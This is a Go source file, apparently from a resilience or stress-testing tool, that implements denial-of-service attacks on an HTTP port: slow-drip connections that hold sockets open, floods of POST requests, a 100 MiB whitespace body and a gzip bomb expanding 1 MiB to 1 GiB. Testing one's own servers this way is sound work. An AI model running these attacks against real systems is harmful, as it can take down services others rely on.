package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"io"
	"net"
	"net/http"
	"sync"
	"time"
)

// The attacks on the HTTP port.

// sockets keeps so many connections, each of which begins with these bytes and
// then says one more byte a second.
func sockets(begin string) attack {
	return func(ctx context.Context, o order, t *tally) {
		var all sync.WaitGroup
		for range o.Streams / 4 {
			conn, err := new(net.Dialer).DialContext(ctx, "tcp", o.HTTP)
			if err != nil {
				t.add("connections refused", 1)
				pause(ctx, time.Millisecond)
				continue
			}
			t.add("connections", 1)
			all.Go(func() {
				defer conn.Close()
				_, err := conn.Write([]byte(begin))
				for err == nil && ctx.Err() == nil {
					pause(ctx, time.Second)
					if begin != "" {
						_, err = conn.Write([]byte("x"))
					}
				}
			})
		}
		all.Wait()
		<-ctx.Done()
	}
}

// posts posts bodies to a method, one after the other on each of many connections.
func posts(compressed bool, body func() io.Reader) attack {
	return func(ctx context.Context, o order, t *tally) {
		client := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: o.Connections * workers}}
		defer client.CloseIdleConnections()
		var all sync.WaitGroup
		for range o.Connections * workers {
			all.Go(func() {
				for ctx.Err() == nil {
					req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+o.HTTP+check, body())
					if err != nil {
						t.add(err.Error(), 1)
						return
					}
					req.Header.Set("Content-Type", "application/json")
					if compressed {
						req.Header.Set("Content-Encoding", "gzip")
					}
					if o.Key != "" {
						req.Header.Set("Authorization", "Bearer "+o.Key)
					}
					res, err := client.Do(req)
					if err != nil {
						t.add("posts cut off", 1)
						pause(ctx, time.Millisecond)
						continue
					}
					_, _ = io.Copy(io.Discard, res.Body) // its status says all
					res.Body.Close()
					t.add("answered "+res.Status, 1)
				}
			})
		}
		all.Wait()
	}
}

// endless is a body of 100 MiB.
func endless() io.Reader { return io.LimitReader(spaces{}, 100<<20) }

// spaces are white space without end, which JSON takes anywhere.
type spaces struct{}

// Read implements io.Reader.
func (spaces) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}

// packed is a body of 1 MiB that unfolds to 1 GiB.
var packed = sync.OnceValue(func() []byte {
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	_, _ = io.Copy(w, io.LimitReader(spaces{}, 1<<30)) // a buffer in memory takes everything
	_ = w.Close()
	return out.Bytes()
})

func bomb() io.Reader { return bytes.NewReader(packed()) }
